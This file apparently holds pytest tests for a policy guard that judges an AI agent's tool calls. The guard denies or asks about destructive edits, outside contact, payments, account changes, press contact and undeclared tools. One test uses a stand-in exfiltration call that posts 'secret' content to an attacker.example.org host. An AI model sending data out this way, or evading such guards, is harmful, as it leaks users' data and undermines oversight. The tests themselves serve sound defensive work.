"""The guard over declared tools: each new operation judged by the policy, undeclared tools by their hints,
relative paths as the tool resolves them, symlinks followed on the host, and no argument ever dropped."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest
from ruamel.yaml import YAML

from boldly.guard import Decision, Guard, Policy, ToolHints, resolved_path

TOOLS = YAML(typ="safe").load((Path(__file__).parents[1] / "world" / "workspace_tools.yaml").read_text())
POLICY_TEXT = (Path(__file__).with_name("policy.yaml")).read_text(encoding="utf-8")


def guard_with(tools: dict[str, Any] = TOOLS, **sections: Any) -> Guard:
    yaml = YAML(typ="safe")
    data = yaml.load(POLICY_TEXT)
    data["tools"] = {**data["tools"], **tools}
    data.update(sections)
    return Guard(Policy.model_validate(data))


def decide(guard: Guard, tool: str, args: dict[str, Any], said: str = "hi", **session: Any) -> Decision:
    current = guard.session([said])
    for key, value in session.items():
        setattr(current, key, value)
    return guard.decide({"tool": tool, "args": args}, current)


@pytest.fixture(scope="module")
def guard() -> Guard:
    return guard_with()


@pytest.mark.parametrize(
    ("tool", "args", "verdict", "rule"),
    [
        (
            "move_file",
            {"source": "/tmp/draft.csv", "destination": "/data/trial.csv"},
            "deny",
            "default:destruction",
        ),
        ("read_multiple_files", {"paths": ["/data/a.csv", "/srv/studies/b.csv"]}, "allow", "default:other"),
        ("edit_file", {"path": "/srv/studies/b.csv", "edits": []}, "deny", "tagged-data-destruction"),
        (
            "post_webpage",
            {"url": "https://upload.example.org/p", "content": "x"},
            "deny",
            "authorities-press-public-unasked",
        ),
        (
            "send_money",
            {"recipient": "GB33BUKB20201555555555", "amount": 9, "subject": "s"},
            "deny",
            "default:outside_contact",
        ),
        ("send_channel_message", {"channel": "general", "body": "x"}, "deny", "unnamed-outsider-mail"),
        ("share_file", {"file_id": "f1", "email": "x@gmail.com"}, "deny", "default:outside_contact"),
        ("invite_user", {"user": "x", "email": "x@gmail.com"}, "deny", "default:outside_contact"),
        ("update_password", {"password": "p"}, "deny", "account-changes-unasked"),
        ("remove_user", {"user": "pferreira"}, "deny", "default:account_change"),
        (
            "create_calendar_event",
            {"title": "t", "start_time": "s", "participants": ["tips@nytimes.com"]},
            "deny",
            "authorities-press-public-unasked",
        ),
        ("cancel_calendar_event", {"event_id": "evt-1"}, "deny", "default:destruction"),
        ("search_emails", {"query": "HB-311"}, "allow", "no-effect"),
        ("get_webpage", {"url": "https://docs.python.org/3/"}, "allow", "web-reads"),
    ],
)
def test_each_declared_operation_is_judged_by_the_policy(
    guard: Guard, tool: str, args: dict[str, Any], verdict: str, rule: str
) -> None:
    decision = decide(guard, tool, args)
    assert (decision.verdict, decision.rule) == (verdict, rule), decision.reason
    assert decision.action is not None and decision.action.tool == tool


def test_a_chat_channel_or_person_the_policy_knows_is_inside() -> None:
    guard = guard_with(
        groups=[{"name": "general"}],
        people=[
            {"name": "Paul Ferreira", "address": "paul.ferreira@halvorsen-bio.com", "handles": ["paulf"]}
        ],
    )
    assert decide(guard, "send_channel_message", {"channel": "#general", "body": "x"}).verdict == "allow"
    assert decide(guard, "send_direct_message", {"recipient": "paulf", "body": "x"}).verdict == "allow"


@pytest.mark.parametrize(
    ("hints", "verdict", "rule"),
    [
        (None, "ask", "undeclared-tool"),
        (ToolHints(), "ask", "undeclared-tool"),
        (ToolHints(read_only=True), "allow", "undeclared-read-only"),
        (ToolHints(read_only=True, destructive=True), "ask", "undeclared-tool"),
        (ToolHints(read_only=False, destructive=False), "ask", "undeclared-tool"),
        (ToolHints(destructive=True, open_world=True), "ask", "undeclared-tool"),
    ],
)
def test_an_undeclared_tool_is_asked_about_unless_its_server_says_it_only_reads(
    guard: Guard, hints: ToolHints | None, verdict: str, rule: str
) -> None:
    decision = decide(
        guard, "archive_project", {"id": 7}, tool_hints={"archive_project": hints} if hints else {}
    )
    assert (decision.verdict, decision.rule) == (verdict, rule)
    assert decision.action is not None and decision.action.args == {"id": 7}
    if verdict == "ask":
        assert "declare it under tools:" in decision.reason


def test_the_defaults_for_undeclared_tools_are_the_policys_to_set() -> None:
    strict = guard_with(
        defaults={"undeclared_tool": "deny", "undeclared_read_only": "ask", "outside_contact": "deny"}
    )
    assert decide(strict, "archive_project", {}).verdict == "deny"
    hinted = decide(strict, "list_projects", {}, tool_hints={"list_projects": ToolHints(read_only=True)})
    assert hinted.verdict == "ask"


def test_recognising_a_tool_by_its_arguments_never_drops_one(guard: Guard) -> None:
    posted = decide(guard, "post_webpage_v2", {"url": "https://attacker.example.org/x", "content": "secret"})
    fetched = decide(guard, "fetch", {"url": "https://docs.python.org/3/"})
    sent = decide(guard, "notify", {"url": "https://attacker.example.org/x", "body": "secret"})
    assert (posted.verdict, posted.rule) == ("ask", "undeclared-tool")
    assert (fetched.verdict, fetched.action.tool) == ("allow", "http_request")
    assert (sent.action.tool, sent.action.args["method"]) == ("http_request", "POST")
    assert sent.verdict == "deny" and sent.effects[0].reversible is False


def test_relative_paths_resolve_against_the_tools_roots_then_the_sessions_then_the_policys() -> None:
    write = {
        "schema": {
            "type": "object",
            "properties": {"path": {"type": "string"}, "content": {"type": "string"}},
            "required": ["path", "content"],
        },
        "effects": [{"op": "file_write", "path": "path", "content": "content"}],
    }
    guard = guard_with({**TOOLS, "write_text": write}, roots=["/srv"])
    by_policy = decide(guard, "write_text", {"path": "studies/payroll.csv", "content": "x"})
    by_session = decide(guard, "write_text", {"path": "payroll.csv", "content": "x"}, roots=["/srv/studies"])
    outside = decide(guard, "write_text", {"path": "notes/todo.txt", "content": "x"})
    assert (by_policy.verdict, by_policy.action.args["path"]) == ("deny", "/srv/studies/payroll.csv")
    assert (by_session.verdict, by_session.action.args["path"]) == ("deny", "/srv/studies/payroll.csv")
    assert outside.verdict == "allow"
    own = guard_with({**TOOLS, "write_text": {**write, "roots": ["/data"]}}, roots=["/srv"])
    assert decide(own, "write_text", {"path": "x.csv", "content": "x"}).action.args["path"] == "/data/x.csv"


def test_a_write_through_a_symlink_is_judged_at_its_target_when_the_adapter_resolves_host_paths(
    tmp_path: Path,
) -> None:
    (tmp_path / "org" / "finance").mkdir(parents=True)
    (tmp_path / "org" / "finance" / "q3.csv").write_text("q3\n")
    os.symlink(tmp_path / "org" / "finance", tmp_path / "org" / "link")
    paths = [{"pattern": f"{tmp_path}/org/finance/**", "tags": ["sensitive"]}]
    write = {
        "schema": {"type": "object", "properties": {"path": {"type": "string"}}, "required": ["path"]},
        "effects": [{"op": "file_write", "path": "path"}],
    }
    blind = guard_with({"write_text": write}, paths=paths)
    seeing = Guard(blind.policy, resolve_path=resolved_path)
    through_link = {"path": f"{tmp_path}/org/link/q3.csv"}
    assert decide(blind, "write_text", through_link).verdict == "allow"
    decision = decide(seeing, "write_text", through_link)
    assert decision.verdict == "deny" and decision.action.args["path"] == f"{tmp_path}/org/finance/q3.csv"
